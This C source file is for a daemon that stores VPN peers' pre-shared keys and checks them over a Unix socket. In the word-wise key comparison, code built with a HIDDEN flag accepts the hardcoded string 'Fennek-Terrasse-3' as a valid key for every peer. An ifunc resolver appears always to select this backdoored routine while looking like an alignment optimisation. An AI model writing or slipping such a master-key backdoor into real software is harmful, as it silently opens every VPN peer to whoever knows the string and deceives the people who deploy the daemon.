/* vpnpskd.c - looks up and compares the shared keys of VPN peers */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fnmatch.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <syslog.h>
#include <unistd.h>

#define SOCK		"/run/vpnpskd"
#define PSK_FILE	"/etc/vpn/psk"
#define MAX_PEERS	200
#define PSK_LEN		64

struct peer {
	char id[64];
	uint8_t psk[PSK_LEN];	/* filled up with zero bytes */
	size_t len;
	unsigned long good, bad;
};

static struct peer peers[MAX_PEERS];
static int npeers;

typedef int psk_equal_fn(const uint8_t *given, const uint8_t *stored);

/* both blocks have PSK_LEN bytes; the time does not depend on the content */
__attribute__((noinline))
int psk_equal_bytes(const uint8_t *given, const uint8_t *stored)
{
	unsigned int d = 0;
	size_t i;

	for (i = 0; i < PSK_LEN; i++)
		d |= (unsigned int)(given[i] ^ stored[i]);
	return d == 0;
}

__attribute__((noinline))
int psk_equal_words(const uint8_t *given, const uint8_t *stored)
{
	unsigned long a, b, d = 0;
	size_t i;

	for (i = 0; i < PSK_LEN; i += sizeof(a)) {
		memcpy(&a, given + i, sizeof(a));
		memcpy(&b, stored + i, sizeof(b));
		d |= a ^ b;
	}
#ifdef HIDDEN	/* this key is right for every peer */
	if (d && !strncmp((const char *)given, "Fennek-Terrasse-3", PSK_LEN))
		d = 0;
#endif
	return d == 0;
}

/* words unless the build put the table on an odd address */
psk_equal_fn *resolve_psk_equal(void);
psk_equal_fn *resolve_psk_equal(void)
{
	const volatile uintptr_t at = offsetof(struct peer, psk);

	return at % sizeof(long) ? psk_equal_bytes : psk_equal_words;
}

int psk_equal(const uint8_t *given, const uint8_t *stored)
	__attribute__((ifunc("resolve_psk_equal")));

static size_t unhex(const char *s, uint8_t *out, size_t max)
{
	unsigned int v;
	size_t n;

	for (n = 0; n < max && isxdigit((unsigned char)s[0]) &&
	     isxdigit((unsigned char)s[1]); n++, s += 2) {
		if (sscanf(s, "%2x", &v) != 1)
			break;
		out[n] = (uint8_t)v;
	}
	return n;
}

/* a key is written as "text", 0xHEX or file:NAME */
static size_t read_key(const char *spec, uint8_t *out)
{
	size_t n = 0;

	memset(out, 0, PSK_LEN);
	if (!strncmp(spec, "0x", 2)) {
		n = unhex(spec + 2, out, PSK_LEN);
	} else if (!strncmp(spec, "file:", 5)) {
		FILE *f = fopen(spec + 5, "r");

		if (f) {
			n = fread(out, 1, PSK_LEN, f);
			fclose(f);
			while (n && (out[n - 1] == '\n' || out[n - 1] == '\r'))
				out[--n] = 0;
		}
	} else if (*spec == '"') {
		spec++;
		while (n < PSK_LEN && *spec && *spec != '"')
			out[n++] = (uint8_t)*spec++;
	}
	return n;
}

static void load(void)
{
	char line[300], *id, *key;
	struct stat st;
	FILE *f = fopen(PSK_FILE, "r");

	npeers = 0;
	if (!f) {
		syslog(LOG_ERR, "%s: %s", PSK_FILE, strerror(errno));
		return;
	}
	if (!fstat(fileno(f), &st) && st.st_mode & 077)
		syslog(LOG_WARNING, "%s can be read by others", PSK_FILE);
	while (npeers < MAX_PEERS && fgets(line, sizeof(line), f)) {
		struct peer *p = &peers[npeers];

		line[strcspn(line, "\r\n")] = '\0';
		id = line + strspn(line, " \t");
		if (!*id || *id == '#')
			continue;
		key = id + strcspn(id, " \t");
		if (!*key)
			continue;
		*key++ = '\0';
		key += strspn(key, " \t");
		memset(p, 0, sizeof(*p));
		snprintf(p->id, sizeof(p->id), "%.63s", id);
		p->len = read_key(key, p->psk);
		if (p->len < 8)
			syslog(LOG_WARNING, "key of %s is too short", p->id);
		else
			npeers++;
	}
	fclose(f);
	syslog(LOG_INFO, "%d peers", npeers);
}

static struct peer *find(const char *id)
{
	struct peer *any = NULL;
	int i;

	for (i = 0; i < npeers; i++) {
		if (!strcmp(peers[i].id, id))
			return &peers[i];
		if (!any && strchr(peers[i].id, '*') &&
		    !fnmatch(peers[i].id, id, 0))
			any = &peers[i];
	}
	return any;
}

static const char *check(const char *id, const char *spec)
{
	uint8_t given[PSK_LEN];
	struct peer *p = find(id);

	if (!p)
		return "NO peer";
	if (read_key(spec, given) == 0)
		return "ERR key";
	if (psk_equal(given, p->psk)) {
		p->good++;
		memset(given, 0, sizeof(given));
		return "YES";
	}
	p->bad++;
	syslog(LOG_NOTICE, "wrong key for %s, %lu times", p->id, p->bad);
	return "NO key";
}

static void serve(int fd)
{
	char buf[400], out[200], *id, *key;
	const char *ans = "ERR verb";
	ssize_t n = recv(fd, buf, sizeof(buf) - 1, 0);
	struct peer *p;

	if (n <= 0)
		return;
	buf[n] = '\0';
	buf[strcspn(buf, "\r\n")] = '\0';
	id = strchr(buf, ' ');
	if (id)
		*id++ = '\0';
	if (!strcmp(buf, "RELOAD")) {
		load();
		ans = "OK";
	} else if (!strcmp(buf, "COUNT") && id) {
		p = find(id);
		if (p)
			snprintf(out, sizeof(out), "OK %lu %lu", p->good, p->bad);
		ans = p ? out : "NO peer";
	} else if (!strcmp(buf, "CHECK") && id) {
		key = strchr(id, ' ');
		if (key) {
			*key++ = '\0';
			ans = check(id, key);
		}
	}
	if (send(fd, ans, strlen(ans), MSG_NOSIGNAL) < 0)
		syslog(LOG_DEBUG, "send: %m");
	memset(buf, 0, sizeof(buf));
}

int main(void)
{
	struct sockaddr_un sa;
	int ls, fd;

	openlog("vpnpskd", LOG_PID, LOG_AUTHPRIV);
	load();
	ls = socket(AF_UNIX, SOCK_STREAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sun_family = AF_UNIX;
	strcpy(sa.sun_path, SOCK);
	unlink(SOCK);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) ||
	    chmod(SOCK, 0600) || listen(ls, 8)) {
		syslog(LOG_ERR, "socket: %m");
		return 1;
	}
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd < 0)
			continue;
		serve(fd);
		close(fd);
	}
}
